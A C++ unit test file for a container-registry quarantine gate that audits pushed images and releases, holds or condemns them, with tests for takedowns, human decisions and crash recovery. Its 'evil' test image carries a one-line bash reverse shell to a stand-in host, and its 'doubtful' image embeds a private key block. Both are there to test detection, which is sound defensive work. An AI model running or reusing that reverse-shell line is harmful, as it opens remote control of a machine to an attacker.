// The gate itself, without HTTP: states, who may see what, decisions, takedown and undoing, what a crash leaves.
#include "gate/gate.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <condition_variable>
#include <filesystem>
#include <fstream>

#include "format/tar_test_support.h"
#include "gate/collector.h"
#include "registry/description.h"
#include "report/writer.h"

namespace lazaret::gate {
namespace {

using store::State;

constexpr std::string_view manifest_type = "application/vnd.oci.image.manifest.v1+json";

std::string digest_text(std::string_view bytes) { return sha256(as_bytes(bytes)).str(); }

struct Image {
  std::string layer, config, manifest;
  Digest digest;

  Image(const std::string& path, const std::string& content) {
    layer = format::TarBlock(path, '0', content.size()).octal(100, 8, 0755).str() + format::tar_padded(content) + format::tar_end_marker;
    config = R"({"architecture":"amd64","os":"linux","config":{"Entrypoint":["/)" + path + R"("]},"rootfs":{"type":"layers","diff_ids":[")" + digest_text(layer) + "\"]}}";
    const auto descriptor = [](std::string_view bytes, std::string_view type) {
      return R"({"mediaType":"application/vnd.oci.image.)" + std::string(type) + R"(","digest":")" + digest_text(bytes) + R"(","size":)" + std::to_string(bytes.size()) + "}";
    };
    manifest = R"({"schemaVersion":2,"mediaType":")" + std::string(manifest_type) + R"(","config":)" + descriptor(config, "config.v1+json") + R"(,"layers":[)" + descriptor(layer, "layer.v1.tar") + "]}";
    digest = sha256(as_bytes(manifest));
  }
};

Image clean(const std::string& name) { return {"etc/" + name, "hello " + name + "\n"}; }
Image evil(const std::string& name) { return {"run.sh", "#!/bin/bash\n# " + name + "\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"}; }
// Suspicious and no more.
Image doubtful(const std::string& name) {
  return {"srv/" + name, std::string("-----BEGIN PRIVATE") + " KEY-----\nMC4CAQAwBQYDK2VwBCIEIAabUtrhMBLX0RYrSsyLVo4GR4RnZKQKYEy4bnCr1hjJ\n-----END PRIVATE KEY-----\n"};
}

class GateTest : public testing::Test {
 protected:
  GateTest() {
    char name[] = "/tmp/lazaret-gate-XXXXXX";
    folder_ = ::mkdtemp(name);
    std::string warning;
    cache_ = std::move(*audit::Cache::open(folder_ + "/cache", ruleset()->digest(), limits_, 1 << 30, &warning));
  }
  ~GateTest() override {
    gate_.reset();
    std::filesystem::remove_all(folder_);
  }
  static std::shared_ptr<const audit::Ruleset> ruleset() {
    static const auto made = std::move(*audit::Ruleset::make({}));
    return made;
  }

  Gate& gate() {
    if (gate_ == nullptr) start();
    return *gate_;
  }
  void start() {
    gate_.reset();
    Parts parts;
    parts.blobs = blobs_.get();
    parts.metadata = metadata_.get();
    parts.ruleset = ruleset();
    parts.audit_policy = &audit_policy_;
    parts.machine = &machine_;
    parts.cache = cache_.get();
    parts.clock = [this] { return now_.load(); };
    parts.describe = [this](const store::Manifest& manifest, const std::string& bytes, const Parts::ReadBlob& read) {
      if (describe_) describe_();
      return registry::describe_manifest(manifest, bytes, read, limits_);
    };
    parts.write_report = [](const audit::Report& report) { return report::to_json({report}, false); };
    parts.marks_folder = folder_ + "/auditing";
    gate_ = std::move(*Gate::open(std::move(parts), policy_, limits_, 2));
  }

  std::optional<Refusal> push_blob(const std::string& repository, const std::string& publisher, const std::string& bytes) {
    const std::string id = "upload-" + std::to_string(++uploads_);
    auto upload = std::move(*blobs_->create_upload(id));
    EXPECT_TRUE(upload->append(as_bytes(bytes)).ok());
    const Digest digest = sha256(as_bytes(bytes));
    return gate().finish_upload(repository, publisher, id, *upload, digest, digest);
  }
  Pushed<PushResult> push(const std::string& repository, const std::string& tag, const Image& image) {
    const std::string publisher = repository.substr(0, repository.find('/'));
    for (const std::string& bytes : {image.layer, image.config}) {
      if (auto refusal = push_blob(repository, publisher, bytes)) return *refusal;
    }
    return gate().put_manifest(repository, publisher, {}, {tag}, std::string(manifest_type), image.manifest);
  }
  // Pushes and waits for the verdict.
  State verdict(const std::string& repository, const std::string& tag, const Image& image) {
    const auto pushed = push(repository, tag, image);
    EXPECT_TRUE(std::holds_alternative<PushResult>(pushed)) << std::get<Refusal>(pushed).message;
    return settled(image.digest);
  }
  State settled(const Digest& digest) {
    std::mutex mutex;
    std::condition_variable changed;
    bool woken = false;
    EXPECT_NE(gate().wait(digest, [&] {
      const std::lock_guard lock(mutex);
      woken = true;
      changed.notify_all();
    }), 0u);
    std::unique_lock lock(mutex);
    changed.wait(lock, [&] { return woken; });
    return state(digest);
  }
  State state(const Digest& digest) {
    State found = State::pending;
    EXPECT_TRUE(metadata_->read([&](store::Reader& reader) { found = reader.manifest(digest)->state; }).ok());
    return found;
  }
  Resolution::Kind seen(const std::string& repository, const std::string& reference, bool insider = false) {
    return gate().resolve(repository, reference, {insider ? "alice" : "", insider})->kind;
  }
  static MayPush only(const std::string& publisher) {
    return [publisher](const std::string& repository) { return repository.starts_with(publisher + "/"); };
  }

  std::string folder_;
  const Limits limits_;
  Policy policy_;
  const audit::Policy audit_policy_ = audit::Policy::standard();
  std::atomic<store::Time> now_{1'600'000'000'000};
  std::function<void()> describe_;
  std::unique_ptr<store::BlobStore> blobs_ = store::make_memory_blob_store();
  std::unique_ptr<store::MetadataStore> metadata_ = std::move(*store::open_sqlite_metadata_store(""));
  audit::AuditMachine machine_{2, limits_};
  std::unique_ptr<audit::Cache> cache_;
  std::unique_ptr<Gate> gate_;
  int uploads_ = 0;
};

TEST_F(GateTest, AVerdictMakesAState) {
  EXPECT_EQ(verdict("alice/a", "1", clean("a")), State::released);
  EXPECT_EQ(verdict("alice/b", "1", doubtful("b")), State::held);
  EXPECT_EQ(verdict("alice/c", "1", evil("c")), State::condemned);
  EXPECT_EQ(seen("alice/a", "1"), Resolution::Kind::found);
  EXPECT_EQ(seen("alice/b", "1"), Resolution::Kind::unknown);
  EXPECT_EQ(seen("alice/b", "1", true), Resolution::Kind::refused);
  EXPECT_EQ(seen("alice/c", "1"), Resolution::Kind::unknown);
}

TEST_F(GateTest, ATagServesWhatWasReleasedUntilTheNextIs) {
  const Image first = clean("first"), second = evil("second"), third = clean("third");
  EXPECT_EQ(verdict("alice/a", "latest", first), State::released);
  EXPECT_EQ(verdict("alice/a", "latest", second), State::condemned);
  EXPECT_EQ(gate().resolve("alice/a", "latest", {})->digest, first.digest);
  EXPECT_EQ(verdict("alice/a", "latest", third), State::released);
  EXPECT_EQ(gate().resolve("alice/a", "latest", {})->digest, third.digest);
}

TEST_F(GateTest, NobodyIsServedWhileItIsPendingAndWhoWaitsIsWoken) {
  std::mutex mutex;
  std::condition_variable changed;
  bool go = false;
  describe_ = [&] {
    std::unique_lock lock(mutex);
    changed.wait(lock, [&] { return go; });
  };
  const Image image = clean("a");
  ASSERT_TRUE(std::holds_alternative<PushResult>(push("alice/a", "1", image)));
  EXPECT_EQ(seen("alice/a", "1"), Resolution::Kind::pending);
  EXPECT_EQ(seen("alice/a", image.digest.str()), Resolution::Kind::pending);
  EXPECT_EQ(gate().find_blob("alice/a", sha256(as_bytes(image.layer)), {}, true)->kind, Resolution::Kind::unknown);
  std::atomic<int> woken{0};
  for (int i = 0; i < 3; ++i) ASSERT_NE(gate().wait(image.digest, [&] { ++woken; }), 0u);
  EXPECT_EQ(gate().waiting(), 3u);
  {
    const std::lock_guard lock(mutex);
    go = true;
    changed.notify_all();
  }
  EXPECT_EQ(settled(image.digest), State::released);
  EXPECT_EQ(woken, 3);
  EXPECT_EQ(gate().waiting(), 0u);
  EXPECT_EQ(gate().find_blob("alice/a", sha256(as_bytes(image.layer)), {}, true)->kind, Resolution::Kind::found);
}

TEST_F(GateTest, MoreThanMayWaitAreToldSo) {
  policy_.waiting_requests = 1;
  describe_ = [] { std::this_thread::sleep_for(std::chrono::milliseconds(200)); };
  const Image image = clean("a");
  ASSERT_TRUE(std::holds_alternative<PushResult>(push("alice/a", "1", image)));
  const auto first = gate().wait(image.digest, [] {});
  EXPECT_NE(first, 0u);
  EXPECT_EQ(gate().wait(image.digest, [] {}), 0u);
  gate().stop_waiting(first);
}

TEST_F(GateTest, AnAuditThatThrowsHolds) {
  describe_ = [] { throw std::runtime_error("a library gave up"); };
  const Image image = clean("a");
  EXPECT_EQ(verdict("alice/a", "1", image), State::held);
  EXPECT_NE(gate().reason(image.digest)->find("a library gave up"), std::string::npos);
  // Looked at again by hand, it gets its real verdict.
  describe_ = nullptr;
  start();
  EXPECT_TRUE(*gate().audit_again(image.digest));
  for (int i = 0; i < 2000 && state(image.digest) != State::released; ++i) std::this_thread::sleep_for(std::chrono::milliseconds(5));
  EXPECT_EQ(state(image.digest), State::released);
  EXPECT_FALSE(*gate().audit_again(sha256(as_bytes("nothing"))));
}

TEST_F(GateTest, AnAuditThatEndedWithTheProcessTooOftenHolds) {
  const Image image = clean("a");
  // As three processes leave it that were killed in the middle of the same audit.
  std::filesystem::create_directories(folder_ + "/auditing");
  std::ofstream(folder_ + "/auditing/" + image.digest.hex()) << "...";
  EXPECT_EQ(verdict("alice/a", "1", image), State::held);
  EXPECT_NE(gate().reason(image.digest)->find("ended with the process 3 times"), std::string::npos);
  EXPECT_FALSE(std::filesystem::exists(folder_ + "/auditing/" + image.digest.hex()));
  const Image other = clean("b");
  std::ofstream(folder_ + "/auditing/" + other.digest.hex()) << "..";
  EXPECT_EQ(verdict("alice/b", "1", other), State::released);
}

TEST_F(GateTest, WhatWasPendingIsTakenUpByTheNextProcess) {
  std::atomic<bool> stop{true};
  std::atomic<int> began{0};
  describe_ = [&] {
    ++began;
    if (stop) throw std::bad_alloc();
  };
  const Image image = clean("a");
  gate();
  ASSERT_TRUE(metadata_->write([&](store::Writer& writer) {
                         const auto repository = writer.add_repository("alice/a", "alice", 1);
                         store::Manifest manifest;
                         manifest.digest = image.digest;
                         manifest.media_type = manifest_type;
                         manifest.created = 1;
                         std::vector<store::Reference> references;
                         for (const auto& [bytes, kind] : {std::pair(image.config, store::ReferenceKind::config), std::pair(image.layer, store::ReferenceKind::layer)}) {
                           references.push_back({kind, sha256(as_bytes(bytes)), bytes.size(), "t"});
                         }
                         writer.add_manifest(manifest, image.manifest, references);
                         writer.bind(repository, image.digest, {"alice", 1, 0});
                         return Result<void>();
                       }).ok());
  for (const std::string& bytes : {image.layer, image.config}) ASSERT_FALSE(push_blob("alice/a", "alice", bytes));
  EXPECT_EQ(state(image.digest), State::pending);
  stop = false;
  start();
  EXPECT_EQ(settled(image.digest), State::released);
  EXPECT_EQ(began, 1);
}

TEST_F(GateTest, WhatAPersonDecidedStays) {
  const Image image = evil("a");
  EXPECT_EQ(verdict("alice/a", "1", image), State::condemned);
  ASSERT_TRUE(gate().decide(image.digest, State::released, "admin", "a test of a scanner").ok());
  EXPECT_EQ(seen("alice/a", "1"), Resolution::Kind::found);
  EXPECT_TRUE(*gate().audit_again(image.digest));
  for (int i = 0; i < 2000 && gate().queue_length() != 0; ++i) std::this_thread::sleep_for(std::chrono::milliseconds(5));
  EXPECT_EQ(state(image.digest), State::released);
  EXPECT_FALSE(gate().decide(image.digest, State::pending, "admin", "no").ok());
  EXPECT_EQ(gate().decide(sha256(as_bytes("nothing")), State::held, "admin", "no").error().code, ErrorCode::not_found);
}

TEST_F(GateTest, APublisherDecidesOnlyWhereThePolicyLetsIt) {
  const Image image = doubtful("a");
  EXPECT_EQ(verdict("alice/a", "1", image), State::held);
  EXPECT_EQ(gate().decide(image.digest, State::released, "alice", "mine", only("alice")).error().code, ErrorCode::unauthorized);
  policy_.publisher_releases = true;
  start();
  EXPECT_EQ(gate().decide(image.digest, State::condemned, "alice", "mine", only("alice")).error().code, ErrorCode::unauthorized);
  EXPECT_EQ(gate().decide(image.digest, State::released, "bob", "mine", only("bob")).error().code, ErrorCode::unauthorized);
  EXPECT_TRUE(gate().decide(image.digest, State::released, "alice", "mine", only("alice")).ok());
  EXPECT_TRUE(gate().decide(image.digest, State::held, "alice", "not yet", only("alice")).ok());
  ASSERT_TRUE(gate().decide(image.digest, State::held, "admin", "a real key").ok());
  EXPECT_EQ(gate().decide(image.digest, State::released, "alice", "mine", only("alice")).error().code, ErrorCode::unauthorized);
  EXPECT_EQ(verdict("alice/c", "1", evil("c")), State::condemned);
  EXPECT_EQ(gate().decide(evil("c").digest, State::released, "alice", "mine", only("alice")).error().code, ErrorCode::unauthorized);
}

TEST_F(GateTest, APublisherDoesNotReleaseWhatHoldsCondemnedContent) {
  policy_.publisher_releases = true;
  const Image image = doubtful("a");
  EXPECT_EQ(verdict("alice/a", "1", image), State::held);
  ASSERT_TRUE(metadata_->write([&](store::Writer& writer) {
                         writer.add_tombstone({store::TombstoneKind::blob, sha256(as_bytes(image.layer)), 0, "it convicted another image", 1});
                         return Result<void>();
                       }).ok());
  EXPECT_EQ(gate().decide(image.digest, State::released, "alice", "mine", only("alice")).error().code, ErrorCode::unauthorized);
}

TEST_F(GateTest, CondemnedContentIsRefusedAndCounted) {
  EXPECT_EQ(verdict("alice/a", "1", evil("a")), State::condemned);
  EXPECT_EQ(gate().tombstone_hits(), 0u);
  const auto again = push("bob/a", "1", evil("a"));
  ASSERT_TRUE(std::holds_alternative<Refusal>(again));
  EXPECT_EQ(std::get<Refusal>(again).code, Refusal::Code::denied);
  EXPECT_EQ(gate().tombstone_hits(), 1u);
}

TEST_F(GateTest, ATakedownTakesAPublisherWithEverythingAndUndoingGivesItBack) {
  const Image one = clean("one"), two = doubtful("two"), other = clean("other");
  EXPECT_EQ(verdict("alice/one", "1", one), State::released);
  EXPECT_EQ(verdict("alice/two", "1", two), State::held);
  EXPECT_EQ(verdict("bob/other", "1", other), State::released);
  const auto act = gate().take_down("publisher", "alice", "admin", "miners");
  ASSERT_TRUE(act.ok());
  EXPECT_EQ(seen("alice/one", "1"), Resolution::Kind::unknown);
  EXPECT_EQ(seen("bob/other", "1"), Resolution::Kind::found);
  EXPECT_FALSE(*gate().may_push("alice/new", "alice"));
  EXPECT_TRUE(std::holds_alternative<Refusal>(push("carol/one", "1", one))) << "under another name";
  EXPECT_EQ(gate().decide(one.digest, State::released, "admin", "no").error().code, ErrorCode::invalid);
  ASSERT_TRUE(gate().undo_takedown(*act, "admin").ok());
  EXPECT_EQ(seen("alice/one", "1"), Resolution::Kind::found);
  EXPECT_EQ(state(two.digest), State::held);
  EXPECT_TRUE(*gate().may_push("alice/new", "alice"));
  EXPECT_FALSE(gate().undo_takedown(*act, "admin").ok()) << "twice";
}

TEST_F(GateTest, WhatOthersPushedTooIsTheirs) {
  const Image shared = clean("shared");
  EXPECT_EQ(verdict("alice/app", "1", shared), State::released);
  EXPECT_EQ(verdict("bob/app", "1", shared), State::released);
  ASSERT_TRUE(gate().take_down("publisher", "alice", "admin", "miners").ok());
  EXPECT_EQ(seen("alice/app", "1"), Resolution::Kind::unknown);
  EXPECT_EQ(seen("bob/app", "1"), Resolution::Kind::found);
}

TEST_F(GateTest, WhatIsPulledMostAndWhatIsNewestIsJudgedAnewFirst) {
  std::vector<Digest> all;
  for (int i = 0; i < 6; ++i) {
    const Image image = clean("n" + std::to_string(i));
    now_ += 1000;
    EXPECT_EQ(verdict("alice/a", std::to_string(i), image), State::released);
    all.push_back(image.digest);
  }
  EXPECT_EQ(*gate().queue_outdated(10), 0u) << "they are judged under the rules of now";
  ASSERT_TRUE(metadata_->write([&](store::Writer& writer) {
                         for (const Digest& digest : all) writer.set_state(digest, State::released, "older rules", false);
                         return Result<void>();
                       }).ok());
  // The oldest two are pulled most, and one was deleted.
  EXPECT_EQ(*gate().queue_outdated(3, {sha256(as_bytes("gone")), all[0], all[1], all[2]}), 3u);
  for (int i = 0; i < 2000 && gate().queue_length() != 0; ++i) std::this_thread::sleep_for(std::chrono::milliseconds(5));
  std::vector<std::size_t> judged;
  ASSERT_TRUE(metadata_->read([&](store::Reader& reader) {
                         for (std::size_t i = 0; i < all.size(); ++i) {
                           if (reader.manifest(all[i])->ruleset == gate().rules()) judged.push_back(i);
                         }
                       }).ok());
  EXPECT_EQ(judged, (std::vector<std::size_t>{0, 1, 5}));
}

TEST_F(GateTest, EveryDecisionIsAnEvent) {
  const Image image = clean("a");
  EXPECT_EQ(verdict("alice/a", "1", image), State::released);
  ASSERT_TRUE(gate().decide(image.digest, State::held, "admin", "a look").ok());
  std::string kinds;
  ASSERT_TRUE(metadata_->read([&](store::Reader& reader) {
                         for (const store::Event& event : reader.events(0, 100)) kinds += event.kind + "(" + event.actor + ") ";
                       }).ok());
  EXPECT_EQ(kinds, "pushed(alice) released() held(admin) ");
}

}  // namespace
}  // namespace lazaret::gate
